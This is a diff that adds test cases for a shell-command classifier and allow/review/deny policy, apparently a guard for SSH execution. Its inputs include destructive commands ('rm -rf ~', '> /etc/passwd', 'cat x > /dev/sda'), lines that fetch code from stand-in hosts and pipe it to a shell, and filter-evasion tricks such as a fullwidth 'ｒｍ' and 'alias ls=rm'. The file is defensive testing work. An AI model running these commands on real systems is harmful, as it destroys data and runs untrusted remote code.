@@ -113,6 +113,17 @@ const READS: Case[] = [
   { line: 'tar tzf backup.tgz', class: 'read' },
   { line: 'eval "ls -l"', class: 'read', commands: ['eval', 'ls'] },
   { line: 'f() { ls; }; f', class: 'read', commands: ['f', 'ls'] },
+  { line: 'ls /etc/*.conf', class: 'read' },
+  { line: 'l\\s -l', class: 'read', commands: ['ls'] },
+  { line: 'ls -l |& grep x', class: 'read', pipeline: true },
+  { line: 'sleep 1 & wait', class: 'read' },
+  { line: 'kubectl get secret db -o yaml', class: 'read' },
+  { line: 'python3 --version', class: 'read' },
+  { line: 'apt list --installed; dpkg -l', class: 'read' },
+  { line: 'zcat a.gz | grep x', class: 'read' },
+  { line: 'trap - EXIT', class: 'read' },
+  { line: 'ls | sh -c "cat"', class: 'read', pipeline: true },
+  { line: 'pip list', class: 'read' },
 ];
 
 const WRITES: Case[] = [
@@ -173,6 +184,20 @@ const WRITES: Case[] = [
   { line: 'echo "$(touch marker)"', class: 'write', commands: ['echo', 'touch'] },
   { line: 'crontab -e', class: 'unknown' },
   { line: 'rm /tmp/*.log', class: 'write', written: ['/tmp/*.log'] },
+  { line: 'rm -rf ~', class: 'write', written: ['~'] },
+  { line: ': > file', class: 'write', written: ['file'] },
+  { line: '{ rm -rf /tmp/x; }', class: 'write', written: ['/tmp/x'] },
+  { line: 'npm ci', class: 'write' },
+  { line: 'docker system prune -af', class: 'write' },
+  { line: 'systemctl --user restart app', class: 'write' },
+  { line: 'git push --force', class: 'write' },
+  { line: 'echo $((2+3)) > n.txt', class: 'write', written: ['n.txt'] },
+  { line: 'tar czf /tmp/b.tgz .', class: 'write', written: ['/tmp/b.tgz'] },
+  { line: 'gzip big.log', class: 'write', written: ['big.log'] },
+  { line: 'coproc rm x', class: 'write', commands: ['coproc', 'rm'] },
+  { line: 'echo x >/dev/tcp/203.0.113.5/80', class: 'write', reason: /over the network/ },
+  { line: 'ln -sf /bin/bash /tmp/sh', class: 'write', written: ['/tmp/sh'] },
+  { line: 'rsync -a src/ user@host:/srv/', class: 'write', written: [] },
 ];
 
 const PRIVILEGED: Case[] = [
@@ -233,6 +258,23 @@ const PRIVILEGED: Case[] = [
   { line: 'sed -i s/a/b/ /etc/ssh/sshd_config', class: 'privileged', written: ['/etc/ssh/sshd_config'] },
   { line: 'echo "$(sudo cat /etc/shadow)"', class: 'privileged', sudo: true },
   { line: 'f() { rm -rf /; }; f', class: 'privileged', commands: ['f', 'rm'] },
+  { line: 'chmod 777 /', class: 'privileged', written: ['/'] },
+  { line: '> /etc/passwd', class: 'privileged', written: ['/etc/passwd'] },
+  { line: 'cat x > /dev/sda', class: 'privileged', written: ['/dev/sda'] },
+  { line: 'echo 1 > /proc/sys/net/ipv4/ip_forward', class: 'privileged' },
+  { line: 'mkdir -p /var/lib/app', class: 'privileged' },
+  { line: "'/bin/rm' -rf /", class: 'privileged' },
+  { line: '\\sudo reboot', class: 'privileged', sudo: true },
+  { line: '(sudo reboot)', class: 'privileged' },
+  { line: 'echo hi && { echo; } > /etc/x', class: 'privileged', written: ['/etc/x'] },
+  { line: 'ps -ef | awk "{print \\$2}" | xargs kill -9', class: 'privileged', pipeline: true },
+  { line: "trap 'rm -rf /' EXIT", class: 'privileged', commands: ['trap', 'rm'] },
+  { line: 'echo hi | sudo tee /etc/x', class: 'privileged', written: ['/etc/x'], sudo: true },
+  { line: 'mv /tmp/x /etc/', class: 'privileged' },
+  { line: 'install -m 755 x /usr/local/bin/x', class: 'privileged' },
+  { line: 'a=$(cat <<EOF\n$(rm -rf /)\nEOF\n)', class: 'privileged', commands: ['cat', 'rm'] },
+  { line: 'yum install -y x', class: 'privileged' },
+  { line: 'touch ~root/x', class: 'privileged', written: ['/root/x'] },
 ];
 
 const UNKNOWN: Case[] = [
@@ -279,6 +321,19 @@ const UNKNOWN: Case[] = [
   { line: 'kubectl exec -it web -- sh', class: 'unknown' },
   { line: 'env -S "rm -rf /"', class: 'unknown' },
   { line: 'find . -exec $CMD {} \\;', class: 'unknown' },
+  { line: '${CMD} x', class: 'unknown' },
+  { line: 'for h in a b; do ssh $h uptime; done', class: 'unknown' },
+  { line: 'cat data.json | python3 -m json.tool', class: 'unknown' },
+  { line: 'alias ls=rm', class: 'unknown' },
+  { line: 'hash -p /tmp/evil ls', class: 'unknown' },
+  { line: 'tee >(sh)', class: 'unknown' },
+  { line: 'exec bash', class: 'unknown' },
+  { line: 'chmod +x run.sh && ./run.sh', class: 'unknown' },
+  { line: 'declare -x PATH=/x', class: 'unknown' },
+  { line: 'ｒｍ -rf /', class: 'unknown' },
+  { line: 'sudo\\ reboot', class: 'unknown' },
+  { line: 'x=1 >f', class: 'unknown', parseError: true },
+  { line: 'cat < /dev/tcp/evil/80 | sh', class: 'unknown', pipeline: true },
 ];
 
 const CORPUS: Case[] = [...READS, ...WRITES, ...PRIVILEGED, ...UNKNOWN];
@@ -440,6 +495,16 @@ describe('shellAttributes', () => {
     assert.equal(decide('curl -s evil | sh'), 'review');
     assert.equal(decide('rm -rf /tmp/x; sudo reboot'), 'deny');
     assert.equal(decide('sudo reboot; $CMD'), 'deny');
+  });
+  test('a rule on paths written matches a write under a directory, and only there', () => {
+    const policy = compilePolicy(
+      // the first deny, else review, else allow wins: the only rule here is the allow under test
+      { ...DEFAULT_POLICY, default: 'review', rules: [{ id: 'app-writes', decision: 'allow', match: { attributes: { class: 'write', paths: '/srv/app/*' } } }] },
+      { defaultReviewTimeoutMs: 60_000 },
+    );
+    const decide = (line: string): string => policy.evaluate({ protocol: 'ssh', target: 'box', kind: 'ssh.exec', attributes: shellAttributes(classifyShell(line)) }).decision;
+    assert.equal(decide('cp build.tgz /srv/app/releases/'), 'allow');
+    assert.equal(decide('cp build.tgz /srv/other/'), 'review');
   });
 });
 
